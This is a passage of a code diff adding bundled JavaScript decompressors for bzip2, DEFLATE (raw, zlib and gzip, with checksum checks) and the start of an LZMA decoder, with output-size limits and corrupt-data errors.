+      this.bitBuffer = (this.bitBuffer & (1 << this.bitCount) - 1) << 8 | this.input[this.position++];
+      this.bitCount += 8;
+    }
+    this.bitCount -= count;
+    return this.bitBuffer >>> this.bitCount & (1 << count) - 1;
+  }
+  bit() {
+    return this.bits(1);
+  }
+  alignToByte() {
+    this.bitCount = 0;
+  }
+  get atEnd() {
+    return this.position >= this.input.length && this.bitCount === 0;
+  }
+  peekBytes(count) {
+    return this.input.subarray(this.position, this.position + count);
+  }
+};
+var Output = class {
+  constructor(max, initial) {
+    this.max = max;
+    this.bytes = new Uint8Array(Math.max(16, Math.min(initial, max)));
+  }
+  max;
+  bytes;
+  length = 0;
+  put(byte) {
+    if (this.length >= this.max) throw new LimitReached();
+    if (this.length === this.bytes.length) {
+      const next = new Uint8Array(Math.min(this.max, this.bytes.length * 2));
+      next.set(this.bytes);
+      this.bytes = next;
+    }
+    this.bytes[this.length++] = byte;
+  }
+};
+var BLOCK_MAGIC = 54156738319193;
+var END_MAGIC = 25779555029136;
+var MAX_GROUPS = 6;
+var GROUP_SIZE = 50;
+var MAX_CODE_LENGTH = 20;
+function buildTable(lengths, alphaSize) {
+  let minLength = 32;
+  let maxLength = 0;
+  for (let i2 = 0; i2 < alphaSize; i2++) {
+    minLength = Math.min(minLength, lengths[i2]);
+    maxLength = Math.max(maxLength, lengths[i2]);
+  }
+  const perm = new Int32Array(alphaSize);
+  let p = 0;
+  for (let length = minLength; length <= maxLength; length++) {
+    for (let s = 0; s < alphaSize; s++) if (lengths[s] === length) perm[p++] = s;
+  }
+  const base = new Int32Array(MAX_CODE_LENGTH + 2);
+  const limit = new Int32Array(MAX_CODE_LENGTH + 2).fill(-1);
+  for (let i2 = 0; i2 < alphaSize; i2++) base[lengths[i2] + 1]++;
+  for (let i2 = 1; i2 < base.length; i2++) base[i2] += base[i2 - 1];
+  let code3 = 0;
+  for (let length = minLength; length <= maxLength; length++) {
+    code3 += base[length + 1] - base[length];
+    limit[length] = code3 - 1;
+    code3 <<= 1;
+  }
+  for (let length = minLength + 1; length <= maxLength; length++) {
+    base[length] = (limit[length - 1] + 1 << 1) - base[length];
+  }
+  return { limit, base, perm, minLength };
+}
+function decodeSymbol(reader, table) {
+  let length = table.minLength;
+  let code3 = reader.bits(length);
+  while (length <= MAX_CODE_LENGTH) {
+    if (code3 <= table.limit[length]) {
+      const index = code3 - table.base[length];
+      if (index < 0 || index >= table.perm.length) throw new CorruptData("bzip2 Huffman code out of range");
+      return table.perm[index];
+    }
+    code3 = code3 * 2 + reader.bit();
+    length++;
+  }
+  throw new CorruptData("bzip2 Huffman code is invalid");
+}
+function decodeBlock(reader, blockSizeMax, out2) {
+  reader.bits(32);
+  if (reader.bit()) throw new CorruptData("randomised bzip2 blocks are not supported");
+  const origPtr = reader.bits(24);
+  const used = [];
+  const groupsUsed = reader.bits(16);
+  for (let i2 = 0; i2 < 16; i2++) {
+    if (groupsUsed & 32768 >>> i2) {
+      const symbols = reader.bits(16);
+      for (let j = 0; j < 16; j++) if (symbols & 32768 >>> j) used.push(i2 * 16 + j);
+    }
+  }
+  if (used.length === 0) throw new CorruptData("bzip2 block uses no symbols");
+  const alphaSize = used.length + 2;
+  const groups2 = reader.bits(3);
+  if (groups2 < 2 || groups2 > MAX_GROUPS) throw new CorruptData("bzip2 block has an invalid number of tables");
+  const selectorCount = reader.bits(15);
+  if (selectorCount === 0) throw new CorruptData("bzip2 block has no selectors");
+  const mtfGroups = Array.from({ length: groups2 }, (_, i2) => i2);
+  const selectors = new Uint8Array(selectorCount);
+  for (let i2 = 0; i2 < selectorCount; i2++) {
+    let j = 0;
+    while (reader.bit()) {
+      j++;
+      if (j >= groups2) throw new CorruptData("bzip2 selector out of range");
+    }
+    const group2 = mtfGroups[j];
+    mtfGroups.splice(j, 1);
+    mtfGroups.unshift(group2);
+    selectors[i2] = group2;
+  }
+  const tables = [];
+  for (let t = 0; t < groups2; t++) {
+    const lengths = new Uint8Array(alphaSize);
+    let length = reader.bits(5);
+    for (let s = 0; s < alphaSize; s++) {
+      for (; ; ) {
+        if (length < 1 || length > MAX_CODE_LENGTH) throw new CorruptData("bzip2 code length out of range");
+        if (!reader.bit()) break;
+        length += reader.bit() ? -1 : 1;
+      }
+      lengths[s] = length;
+    }
+    tables.push(buildTable(lengths, alphaSize));
+  }
+  const mtf = Uint8Array.from(used);
+  const counts = new Int32Array(256);
+  const tt = new Uint32Array(blockSizeMax);
+  const endOfBlock = alphaSize - 1;
+  let count = 0;
+  let run4 = 0;
+  let runWeight = 1;
+  let selector = 0;
+  let groupLeft = 0;
+  let table = tables[0];
+  for (; ; ) {
+    if (groupLeft === 0) {
+      if (selector >= selectorCount) throw new CorruptData("bzip2 block ran out of selectors");
+      table = tables[selectors[selector++]];
+      groupLeft = GROUP_SIZE;
+    }
+    groupLeft--;
+    const symbol = decodeSymbol(reader, table);
+    if (symbol <= 1) {
+      run4 += (symbol + 1) * runWeight;
+      runWeight *= 2;
+      if (run4 > blockSizeMax) throw new CorruptData("bzip2 run exceeds the block size");
+      continue;
+    }
+    if (run4 > 0) {
+      if (count + run4 > blockSizeMax) throw new CorruptData("bzip2 block exceeds its size");
+      const byte2 = mtf[0];
+      counts[byte2] += run4;
+      for (; run4 > 0; run4--) tt[count++] = byte2;
+      runWeight = 1;
+    }
+    if (symbol === endOfBlock) break;
+    if (count >= blockSizeMax) throw new CorruptData("bzip2 block exceeds its size");
+    const index = symbol - 1;
+    const byte = mtf[index];
+    mtf.copyWithin(1, 0, index);
+    mtf[0] = byte;
+    counts[byte]++;
+    tt[count++] = byte;
+  }
+  if (origPtr >= count) throw new CorruptData("bzip2 BWT origin out of range");
+  const starts = new Int32Array(256);
+  for (let i2 = 0, sum = 0; i2 < 256; i2++) {
+    starts[i2] = sum;
+    sum += counts[i2];
+  }
+  for (let i2 = 0; i2 < count; i2++) {
+    const byte = tt[i2] & 255;
+    tt[starts[byte]++] |= i2 << 8;
+  }
+  let position = tt[origPtr] >>> 8;
+  let previous = -1;
+  let repeat = 0;
+  for (let i2 = 0; i2 < count; i2++) {
+    const entry = tt[position];
+    const byte = entry & 255;
+    position = entry >>> 8;
+    if (repeat === 4) {
+      for (let k = 0; k < byte; k++) out2.put(previous);
+      repeat = 0;
+      previous = -1;
+      continue;
+    }
+    if (byte === previous) repeat++;
+    else {
+      repeat = 1;
+      previous = byte;
+    }
+    out2.put(byte);
+  }
+}
+function decodeBzip2(input, maxOutput) {
+  const out2 = new Output(maxOutput, input.length * 4);
+  const reader = new BitReader(input);
+  try {
+    for (let stream = 0; ; stream++) {
+      if (reader.bits(24) !== 4348520) throw new CorruptData("not a bzip2 stream");
+      const level = reader.bits(8) - 48;
+      if (level < 1 || level > 9) throw new CorruptData("invalid bzip2 block size");
+      for (; ; ) {
+        const magic = reader.bits(48);
+        if (magic === END_MAGIC) {
+          reader.bits(32);
+          break;
+        }
+        if (magic !== BLOCK_MAGIC) throw new CorruptData("invalid bzip2 block header");
+        decodeBlock(reader, level * 1e5, out2);
+      }
+      reader.alignToByte();
+      const next = reader.peekBytes(3);
+      if (reader.atEnd || !(next[0] === 66 && next[1] === 90 && next[2] === 104)) break;
+    }
+    return { bytes: out2.bytes.subarray(0, out2.length), limitReached: false };
+  } catch (error) {
+    const bytes = out2.bytes.subarray(0, out2.length);
+    if (error instanceof LimitReached) return { bytes, limitReached: true };
+    if (error instanceof CorruptData) return { bytes, limitReached: false, error: error.message };
+    throw error;
+  }
+}
+
+// src/artifacts/containers/inflate.ts
+var MAX_INPUT = (1 << 28) - 64;
+var PADDING = 16;
+var TYPICAL_RATIO = 4;
+var LENGTH_BASE = Uint16Array.of(3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99, 115, 131, 163, 195, 227, 258);
+var LENGTH_EXTRA = Uint8Array.of(0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 2, 2, 2, 2, 3, 3, 3, 3, 4, 4, 4, 4, 5, 5, 5, 5, 0);
+var DIST_BASE = Uint16Array.of(
+  1,
+  2,
+  3,
+  4,
+  5,
+  7,
+  9,
+  13,
+  17,
+  25,
+  33,
+  49,
+  65,
+  97,
+  129,
+  193,
+  257,
+  385,
+  513,
+  769,
+  1025,
+  1537,
+  2049,
+  3073,
+  4097,
+  6145,
+  8193,
+  12289,
+  16385,
+  24577
+);
+var DIST_EXTRA = Uint8Array.of(0, 0, 0, 0, 1, 1, 2, 2, 3, 3, 4, 4, 5, 5, 6, 6, 7, 7, 8, 8, 9, 9, 10, 10, 11, 11, 12, 12, 13, 13);
+var CODE_LENGTH_ORDER = Uint8Array.of(16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15);
+var MAX_BITS = 15;
+var reversed15;
+function reverseTable() {
+  if (reversed15) return reversed15;
+  const table = new Uint16Array(1 << MAX_BITS);
+  for (let i2 = 0; i2 < table.length; i2++) {
+    let v = i2;
+    v = (v & 43690) >>> 1 | (v & 21845) << 1;
+    v = (v & 52428) >>> 2 | (v & 13107) << 2;
+    v = (v & 61680) >>> 4 | (v & 3855) << 4;
+    v = (v & 65280) >>> 8 | (v & 255) << 8;
+    table[i2] = v >>> 1;
+  }
+  return reversed15 = table;
+}
+var lengthCounts = new Uint16Array(MAX_BITS + 1);
+var nextCode = new Uint16Array(MAX_BITS + 1);
+function buildTable2(lengths, from, count, into, allowIncomplete) {
+  lengthCounts.fill(0);
+  for (let i2 = 0; i2 < count; i2++) lengthCounts[lengths[from + i2]]++;
+  let maxLength = MAX_BITS;
+  while (maxLength > 0 && lengthCounts[maxLength] === 0) maxLength--;
+  if (maxLength === 0) {
+    into.bits = 1;
+    into.entries[0] = 0;
+    into.entries[1] = 0;
+    return allowIncomplete;
+  }
+  let left = 1;
+  for (let length = 1; length <= MAX_BITS; length++) {
+    left = (left << 1) - lengthCounts[length];
+    if (left < 0) return false;
+  }
+  if (left > 0 && !(allowIncomplete && maxLength === 1)) return false;
+  let code3 = 0;
+  lengthCounts[0] = 0;
+  for (let length = 1; length <= MAX_BITS; length++) {
+    code3 = code3 + lengthCounts[length - 1] << 1;
+    nextCode[length] = code3;
+  }
+  const size = 1 << maxLength;
+  const entries = into.entries;
+  entries.fill(0, 0, size);
+  const reverse = reverseTable();
+  for (let symbol = 0; symbol < count; symbol++) {
+    const length = lengths[from + symbol];
+    if (length === 0) continue;
+    const entry = symbol << 4 | length;
+    const step = 1 << length;
+    for (let i2 = reverse[nextCode[length]++] >>> MAX_BITS - length; i2 < size; i2 += step) entries[i2] = entry;
+  }
+  into.bits = maxLength;
+  return true;
+}
+var fixedTables;
+function fixed() {
+  if (fixedTables) return fixedTables;
+  const lengths = new Uint8Array(288 + 32);
+  lengths.fill(8, 0, 144).fill(9, 144, 256).fill(7, 256, 280).fill(8, 280, 288).fill(5, 288, 320);
+  const literals = { entries: new Uint16Array(1 << 9), bits: 0 };
+  const distances = { entries: new Uint16Array(1 << 5), bits: 0 };
+  buildTable2(lengths, 0, 288, literals, false);
+  buildTable2(lengths, 288, 32, distances, false);
+  return fixedTables = { literals, distances };
+}
+var dynamicLiterals = { entries: new Uint16Array(1 << MAX_BITS), bits: 0 };
+var dynamicDistances = { entries: new Uint16Array(1 << MAX_BITS), bits: 0 };
+var codeLengthCodes = { entries: new Uint16Array(1 << 7), bits: 0 };
+var codeLengths = new Uint8Array(286 + 30);
+var codeLengthLengths = new Uint8Array(19);
+var Output2 = class {
+  constructor(cap, initial) {
+    this.cap = cap;
+    this.bytes = new Uint8Array(Math.min(cap, Math.max(1024, initial)));
+  }
+  cap;
+  bytes;
+  length = 0;
+  /** Makes room for `extra` more bytes if the cap allows; returns the room there is (possibly less). */
+  reserve(extra) {
+    const need = this.length + extra;
+    if (need > this.bytes.length && this.bytes.length < this.cap) {
+      const next = new Uint8Array(Math.min(this.cap, Math.max(need, this.bytes.length * 2)));
+      next.set(this.bytes.subarray(0, this.length));
+      this.bytes = next;
+    }
+    return this.bytes.length - this.length;
+  }
+  result() {
+    return this.length === this.bytes.length ? this.bytes : this.bytes.slice(0, this.length);
+  }
+};
+var END_OF_FILE = "unexpected end of file";
+function inflateStream(data, length, start2, out2) {
+  const totalBits = length * 8;
+  const outStart = out2.length;
+  let p = start2 * 8;
+  let bytes = out2.bytes;
+  let o = out2.length;
+  let room = bytes.length;
+  let last = 0;
+  while (last === 0) {
+    if (p + 3 > totalBits) return stop2(out2, o, p, "truncated", END_OF_FILE);
+    const header = (data[p >>> 3] | data[(p >>> 3) + 1] << 8) >>> (p & 7);
+    last = header & 1;
+    const type = header >>> 1 & 3;
+    p += 3;
+    if (type === 0) {
+      let at = p + 7 >>> 3;
+      if (at + 4 > length) {
+        p = totalBits;
+        return stop2(out2, o, p, "truncated", END_OF_FILE);
+      }
+      const size = data[at] | data[at + 1] << 8;
+      if ((data[at + 2] | data[at + 3] << 8) !== (~size & 65535)) return stop2(out2, o, p, "corrupt", "invalid stored block lengths");
+      at += 4;
+      const available = Math.min(size, length - at);
+      out2.length = o;
+      const copy = Math.min(available, out2.reserve(available));
+      bytes = out2.bytes;
+      room = bytes.length;
+      bytes.set(data.subarray(at, at + copy), o);
+      o += copy;
+      p = (at + copy) * 8;
+      if (copy < available) return stop2(out2, o, p, "limit");
+      if (available < size) return stop2(out2, o, p, "truncated", END_OF_FILE);
+      continue;
+    }
+    let literals;
+    let distances;
+    if (type === 1) {
+      ({ literals, distances } = fixed());
+    } else if (type === 2) {
+      const problem2 = readDynamicTables(data, p, totalBits);
+      if (typeof problem2 !== "number") {
+        p = problem2.at;
+        return stop2(out2, o, p, problem2.truncated ? "truncated" : "corrupt", problem2.error);
+      }
+      p = problem2;
+      literals = dynamicLiterals;
+      distances = dynamicDistances;
+    } else {
+      return stop2(out2, o, p, "corrupt", "invalid block type");
+    }
+    const litEntries = literals.entries;
+    const litBits = literals.bits;
+    const litMask = (1 << litBits) - 1;
+    const distEntries = distances.entries;
+    const distBits = distances.bits;
+    const distMask = (1 << distBits) - 1;
+    for (; ; ) {
+      let i2 = p >>> 3;
+      let entry = litEntries[(data[i2] | data[i2 + 1] << 8 | data[i2 + 2] << 16) >>> (p & 7) & litMask];
+      if (entry === 0) return stopBadCode(out2, o, p, litBits, totalBits, "invalid literal/length code");
+      p += entry & 15;
+      if (p > totalBits) return stop2(out2, o, p, "truncated", END_OF_FILE);
+      let symbol = entry >>> 4;
+      if (symbol < 256) {
+        if (o >= room) {
+          out2.length = o;
+          if (out2.reserve(1) < 1) return stop2(out2, o, p, "limit");
+          bytes = out2.bytes;
+          room = bytes.length;
+        }
+        bytes[o++] = symbol;
+        continue;
+      }
+      if (symbol === 256) break;
+      symbol -= 257;
+      if (symbol >= 29) return stop2(out2, o, p, "corrupt", "invalid literal/length code");
+      let copyLength = LENGTH_BASE[symbol];
+      const lengthBits = LENGTH_EXTRA[symbol];
+      if (lengthBits > 0) {
+        i2 = p >>> 3;
+        copyLength += (data[i2] | data[i2 + 1] << 8) >>> (p & 7) & (1 << lengthBits) - 1;
+        p += lengthBits;
+      }
+      i2 = p >>> 3;
+      entry = distEntries[(data[i2] | data[i2 + 1] << 8 | data[i2 + 2] << 16) >>> (p & 7) & distMask];
+      if (entry === 0) return stopBadCode(out2, o, p, distBits, totalBits, "invalid distance code");
+      p += entry & 15;
+      symbol = entry >>> 4;
+      if (symbol >= 30) return stopBadCode(out2, o, p, 0, totalBits, "invalid distance code");
+      let distance = DIST_BASE[symbol];
+      const distanceBits = DIST_EXTRA[symbol];
+      if (distanceBits > 0) {
+        i2 = p >>> 3;
+        distance += (data[i2] | data[i2 + 1] << 8 | data[i2 + 2] << 16) >>> (p & 7) & (1 << distanceBits) - 1;
+        p += distanceBits;
+      }
+      if (p > totalBits) return stop2(out2, o, p, "truncated", END_OF_FILE);
+      if (distance > o - outStart) return stop2(out2, o, p, "corrupt", "invalid distance too far back");
+      let limited = false;
+      if (o + copyLength > room) {
+        out2.length = o;
+        const granted = out2.reserve(copyLength);
+        bytes = out2.bytes;
+        room = bytes.length;
+        if (granted < copyLength) {
+          copyLength = granted;
+          limited = true;
+        }
+      }
+      let from = o - distance;
+      if (copyLength < 32) {
+        for (const end = o + copyLength; o < end; ) bytes[o++] = bytes[from++];
+      } else if (distance === 1) {
+        bytes.fill(bytes[from], o, o + copyLength);
+        o += copyLength;
+      } else if (distance >= copyLength) {
+        bytes.copyWithin(o, from, from + copyLength);
+        o += copyLength;
+      } else {
+        for (const end = o + copyLength; o < end; ) bytes[o++] = bytes[from++];
+      }
+      if (limited) return stop2(out2, o, p, "limit");
+    }
+  }
+  return stop2(out2, o, p, "end");
+}
+function stop2(out2, o, p, status, error) {
+  out2.length = o;
+  return { status, ...error ? { error } : {}, end: p + 7 >>> 3 };
+}
+function stopBadCode(out2, o, p, bitsRead, totalBits, error) {
+  return p + bitsRead > totalBits ? stop2(out2, o, p, "truncated", END_OF_FILE) : stop2(out2, o, p, "corrupt", error);
+}
+function peek(data, p) {
+  const i2 = p >>> 3;
+  return (data[i2] | data[i2 + 1] << 8 | data[i2 + 2] << 16) >>> (p & 7);
+}
+function readDynamicTables(data, start2, totalBits) {
+  let p = start2;
+  const truncated = { truncated: true, error: END_OF_FILE, at: totalBits };
+  const corrupt = (error) => ({ truncated: false, error, at: start2 });
+  if (p + 14 > totalBits) return truncated;
+  const counts = peek(data, p);
+  const literalCount = (counts & 31) + 257;
+  const distanceCount = (counts >>> 5 & 31) + 1;
+  const lengthCodeCount = (counts >>> 10 & 15) + 4;
+  p += 14;
+  if (literalCount > 286 || distanceCount > 30) return corrupt("too many length or distance symbols");
+  if (p + lengthCodeCount * 3 > totalBits) return truncated;
+  codeLengthLengths.fill(0);
+  for (let i2 = 0; i2 < lengthCodeCount; i2++) {
+    codeLengthLengths[CODE_LENGTH_ORDER[i2]] = peek(data, p) & 7;
+    p += 3;
+  }
+  if (!buildTable2(codeLengthLengths, 0, 19, codeLengthCodes, false)) return corrupt("invalid code lengths set");
+  const total = literalCount + distanceCount;
+  const mask = (1 << codeLengthCodes.bits) - 1;
+  for (let n = 0; n < total; ) {
+    const entry = codeLengthCodes.entries[peek(data, p) & mask];
+    p += entry & 15;
+    if (p > totalBits) return truncated;
+    const symbol = entry >>> 4;
+    if (symbol < 16) {
+      codeLengths[n++] = symbol;
+      continue;
+    }
+    let repeat;
+    let value = 0;
+    if (symbol === 16) {
+      if (n === 0) return corrupt("invalid bit length repeat");
+      value = codeLengths[n - 1];
+      repeat = 3 + (peek(data, p) & 3);
+      p += 2;
+    } else if (symbol === 17) {
+      repeat = 3 + (peek(data, p) & 7);
+      p += 3;
+    } else {
+      repeat = 11 + (peek(data, p) & 127);
+      p += 7;
+    }
+    if (p > totalBits) return truncated;
+    if (n + repeat > total) return corrupt("invalid bit length repeat");
+    codeLengths.fill(value, n, n + repeat);
+    n += repeat;
+  }
+  if (codeLengths[256] === 0) return corrupt("invalid code -- missing end-of-block");
+  if (!buildTable2(codeLengths, 0, literalCount, dynamicLiterals, true)) return corrupt("invalid literal/lengths set");
+  if (!buildTable2(codeLengths, literalCount, distanceCount, dynamicDistances, true)) return corrupt("invalid distances set");
+  return p;
+}
+function adler32(bytes, from, to) {
+  let a = 1;
+  let b = 0;
+  for (let at = from; at < to; ) {
+    const end = Math.min(to, at + 5552);
+    for (; at < end; at++) {
+      a += bytes[at];
+      b += a;
+    }
+    a %= 65521;
+    b %= 65521;
+  }
+  return b * 65536 + a >>> 0;
+}
+var crcTable;
+function crc32(bytes, from, to) {
+  if (!crcTable) {
+    crcTable = new Int32Array(256);
+    for (let n = 0; n < 256; n++) {
+      let c = n;
+      for (let k = 0; k < 8; k++) c = c & 1 ? 3988292384 ^ c >>> 1 : c >>> 1;
+      crcTable[n] = c;
+    }
+  }
+  const table = crcTable;
+  let crc = -1;
+  for (let at = from; at < to; at++) crc = table[(crc ^ bytes[at]) & 255] ^ crc >>> 8;
+  return (crc ^ -1) >>> 0;
+}
+function inflateRaw(input, maxOutput) {
+  return run2(input, maxOutput, (data, length, out2) => {
+    const outcome = inflateStream(data, length, 0, out2);
+    return { ...outcome, consumed: outcome.end };
+  });
+}
+function inflateZlib(input, maxOutput) {
+  return run2(input, maxOutput, (data, length, out2) => {
+    if (length < 2) return { status: "truncated", error: END_OF_FILE, consumed: length };
+    const cmf = data[0];
+    const flags2 = data[1];
+    if ((cmf << 8 | flags2) % 31 !== 0) return { status: "corrupt", error: "incorrect header check", consumed: 0 };
+    if ((cmf & 15) !== 8) return { status: "corrupt", error: "unknown compression method", consumed: 0 };
+    if ((cmf >>> 4) + 8 > 15) return { status: "corrupt", error: "invalid window size", consumed: 0 };
+    if (flags2 & 32) {
+      if (length < 6) return { status: "truncated", error: END_OF_FILE, consumed: length };
+      return { status: "corrupt", error: "Missing dictionary", consumed: 0 };
+    }
+    const outcome = inflateStream(data, length, 2, out2);
+    if (outcome.status !== "end") return { ...outcome, consumed: outcome.end };
+    const at = outcome.end;
+    if (at + 4 > length) return { status: "truncated", error: END_OF_FILE, consumed: length };
+    const expected = data[at] * 16777216 + (data[at + 1] << 16 | data[at + 2] << 8 | data[at + 3]) >>> 0;
+    if (adler32(out2.bytes, 0, out2.length) !== expected) return { status: "corrupt", error: "incorrect data check", consumed: at };
+    return { status: "end", consumed: at + 4 };
+  });
+}
+function gunzip(input, maxOutput) {
+  return run2(input, maxOutput, (data, length, out2) => {
+    let at = 0;
+    do {
+      const body2 = gzipHeaderEnd(data, length, at);
+      if (typeof body2 !== "number") return { ...body2, consumed: at };
+      const memberStart = out2.length;
+      const outcome = inflateStream(data, length, body2, out2);
+      if (outcome.status !== "end") return { ...outcome, consumed: outcome.end };
+      const trailer = outcome.end;
+      if (trailer + 8 > length) return { status: "truncated", error: END_OF_FILE, consumed: length };
+      const crc = (data[trailer] | data[trailer + 1] << 8 | data[trailer + 2] << 16) + data[trailer + 3] * 16777216;
+      const size = (data[trailer + 4] | data[trailer + 5] << 8 | data[trailer + 6] << 16) + data[trailer + 7] * 16777216;
+      if (crc32(out2.bytes, memberStart, out2.length) !== crc) return { status: "corrupt", error: "incorrect data check", consumed: trailer };
+      if ((out2.length - memberStart) % 4294967296 !== size) return { status: "corrupt", error: "incorrect length check", consumed: trailer };
+      at = trailer + 8;
+    } while (at < length && data[at] !== 0);
+    return { status: "end", consumed: at };
+  });
+}
+function gzipHeaderEnd(data, length, start2) {
+  const available = length - start2;
+  if (available > 0 && data[start2] !== 31) return { status: "corrupt", error: "incorrect header check" };
+  if (available > 1 && data[start2 + 1] !== 139) return { status: "corrupt", error: "incorrect header check" };
+  if (available > 2 && data[start2 + 2] !== 8) return { status: "corrupt", error: "unknown compression method" };
+  const flags2 = data[start2 + 3];
+  if (available > 3 && (flags2 & 224) !== 0) return { status: "corrupt", error: "unknown header flags set" };
+  const truncated = { status: "truncated", error: END_OF_FILE };
+  if (available < 10) return truncated;
+  let at = start2 + 10;
+  if (flags2 & 4) {
+    if (at + 2 > length) return truncated;
+    at += 2 + (data[at] | data[at + 1] << 8);
+    if (at > length) return truncated;
+  }
+  for (const flag of [8, 16]) {
+    if (!(flags2 & flag)) continue;
+    const nul = data.subarray(0, length).indexOf(0, at);
+    if (nul < 0) return truncated;
+    at = nul + 1;
+  }
+  if (flags2 & 2) {
+    if (at + 2 > length) return truncated;
+    if ((crc32(data, start2, at) & 65535) !== (data[at] | data[at + 1] << 8)) return { status: "corrupt", error: "header crc mismatch" };
+    at += 2;
+  }
+  return at;
+}
+function run2(input, maxOutput, decode) {
+  const cap = Math.max(0, Math.floor(maxOutput));
+  if (input.length > MAX_INPUT) {
+    return { bytes: new Uint8Array(0), limitReached: false, error: "input too large for the synchronous decoder", truncated: false, consumed: 0 };
+  }
+  const data = new Uint8Array(input.length + PADDING);
+  data.set(input);
+  const out2 = new Output2(cap, input.length * TYPICAL_RATIO);
+  const outcome = decode(data, input.length, out2);
+  return {
+    bytes: out2.result(),
+    limitReached: outcome.status === "limit",
+    ...outcome.status === "truncated" || outcome.status === "corrupt" ? { error: outcome.error ?? END_OF_FILE } : {},
+    truncated: outcome.status === "truncated",
+    consumed: Math.min(outcome.consumed, input.length)
+  };
+}
+
+// src/artifacts/containers/lzma.ts
+var LimitReached2 = class extends Error {
+};
+var CorruptData2 = class extends Error {
+};
+var OutputWindow = class {
+  constructor(max, initial) {
+    this.max = max;
+    this.bytes = new Uint8Array(Math.max(16, Math.min(initial, max)));
+  }
+  max;
+  bytes;
+  length = 0;
+  /** Start of the current dictionary (LZMA2 dictionary resets): matches may not reach before it. */
+  dictStart = 0;
+  put(byte) {
+    if (this.length >= this.max) throw new LimitReached2();
+    if (this.length === this.bytes.length) this.grow(this.length + 1);
+    this.bytes[this.length++] = byte;
+  }
+  putBytes(chunk) {
+    for (const byte of chunk) this.put(byte);
+  }
+  /** Byte `distance` positions back (1 = the last byte written). */
+  back(distance) {
+    return this.bytes[this.length - distance];
+  }
+  canReach(distance) {
+    return distance <= this.length - this.dictStart;
+  }
+  grow(need) {
+    const next = new Uint8Array(Math.min(this.max, Math.max(need, this.bytes.length * 2)));
+    next.set(this.bytes.subarray(0, this.length));
+    this.bytes = next;
+  }
+};
+var RangeDecoder = class {
+  constructor(input, position, end) {
+    this.input = input;
+    this.position = position;
+    this.end = end;
+    if (this.next() !== 0) throw new CorruptData2("range coder does not start with 0");
+    for (let i2 = 0; i2 < 4; i2++) this.code = this.code * 256 + this.next();
+    if (this.code === this.range) throw new CorruptData2("range coder initial code is invalid");
+  }
+  input;
+  position;
+  end;
+  range = 4294967295;
+  code = 0;
+  next() {
+    if (this.position >= this.end) throw new CorruptData2("compressed data is truncated");
+    return this.input[this.position++];
+  }
+  normalize() {
+    if (this.range < 16777216) {
+      this.range *= 256;
+      this.code = this.code * 256 + this.next();
+    }
+  }
+  finishedOk() {
+    return this.code === 0;
+  }
+  bit(probs, index) {
+    const prob = probs[index];
+    const bound = (this.range >>> 11) * prob;
+    let result2;
+    if (this.code < bound) {
+      this.range = bound;
+      probs[index] = prob + (2048 - prob >>> 5);
+      result2 = 0;
+    } else {
+      this.range -= bound;
+      this.code -= bound;
+      probs[index] = prob - (prob >>> 5);
+      result2 = 1;
+    }
+    this.normalize();
+    return result2;
+  }
+  direct(count) {
+    let result2 = 0;
+    for (let i2 = 0; i2 < count; i2++) {
+      this.range = Math.floor(this.range / 2);
+      let bit = 0;
+      if (this.code >= this.range) {
+        this.code -= this.range;
+        bit = 1;
+      }
+      result2 = result2 * 2 + bit;
+      this.normalize();
+    }
+    return result2;
+  }
+  tree(probs, offset, bits) {
+    let m = 1;
+    for (let i2 = 0; i2 < bits; i2++) m = m * 2 + this.bit(probs, offset + m);
+    return m - (1 << bits);
+  }
+  reverseTree(probs, offset, bits) {
+    let m = 1;
+    let symbol = 0;
+    for (let i2 = 0; i2 < bits; i2++) {
+      const bit = this.bit(probs, offset + m);
+      m = m * 2 + bit;
+      symbol |= bit << i2;
+    }
+    return symbol;
+  }
+};
+var STATES = 12;
+var POS_STATES_MAX = 16;
+var END_POS_MODEL_INDEX = 14;
+var FULL_DISTANCES = 128;
+var LengthDecoder = class {
+  probs = new Uint16Array(2 + POS_STATES_MAX * 8 * 2 + 256).fill(1024);
+  decode(rc, posState) {
+    if (rc.bit(this.probs, 0) === 0) return rc.tree(this.probs, 2 + posState * 8, 3);
+    if (rc.bit(this.probs, 1) === 0) return 8 + rc.tree(this.probs, 2 + POS_STATES_MAX * 8 + posState * 8, 3);
+    return 16 + rc.tree(this.probs, 2 + POS_STATES_MAX * 16, 8);
+  }
+};
+function parseProperties(byte) {
+  if (byte >= 9 * 5 * 5) throw new CorruptData2("invalid LZMA properties byte");
+  return { lc: byte % 9, lp: Math.floor(byte / 9) % 5, pb: Math.floor(byte / 45) };
+}
+var LzmaState = class {
+  constructor(props, dictSize) {
+    this.props = props;
+    this.dictSize = dictSize;
+    this.reset();
+  }
+  props;
+  dictSize;
+  literal;
+  isMatch = new Uint16Array(STATES * POS_STATES_MAX);
+  isRep = new Uint16Array(STATES);
+  isRepG0 = new Uint16Array(STATES);
+  isRepG1 = new Uint16Array(STATES);
+  isRepG2 = new Uint16Array(STATES);
+  isRep0Long = new Uint16Array(STATES * POS_STATES_MAX);
+  posSlot = new Uint16Array(4 * 64);
+  posDecoders = new Uint16Array(1 + FULL_DISTANCES - END_POS_MODEL_INDEX);
+  align = new Uint16Array(16);
+  lengths = new LengthDecoder();
+  repLengths = new LengthDecoder();
+  state = 0;
+  reps = [0, 0, 0, 0];
+  setProperties(props) {
+    this.props = props;
+  }
+  reset() {
+    this.literal = new Uint16Array(768 << this.props.lc + this.props.lp).fill(1024);
+    for (const probs of [this.isMatch, this.isRep, this.isRepG0, this.isRepG1, this.isRepG2, this.isRep0Long, this.posSlot, this.posDecoders, this.align]) {
+      probs.fill(1024);
+    }
+    this.lengths = new LengthDecoder();
+    this.repLengths = new LengthDecoder();
+    this.state = 0;
+    this.reps = [0, 0, 0, 0];
+  }
+  /**
+   * Decodes until `size` bytes were produced (when given) or the end marker. Returns whether the end marker
+   * was seen.
+   */
+  decode(rc, out2, size) {
+    const { lc, lp, pb } = this.props;
+    const pbMask = (1 << pb) - 1;
+    const lpMask = (1 << lp) - 1;
+    let remaining = size ?? Number.POSITIVE_INFINITY;
+    for (; ; ) {
+      if (remaining === 0) return false;
+      const posState = out2.length & pbMask;
+      if (rc.bit(this.isMatch, (this.state << 4) + posState) === 0) {
+        const prev = out2.length > out2.dictStart ? out2.back(1) : 0;
+        const base = 768 * (((out2.length & lpMask) << lc) + (prev >>> 8 - lc));
+        let symbol = 1;
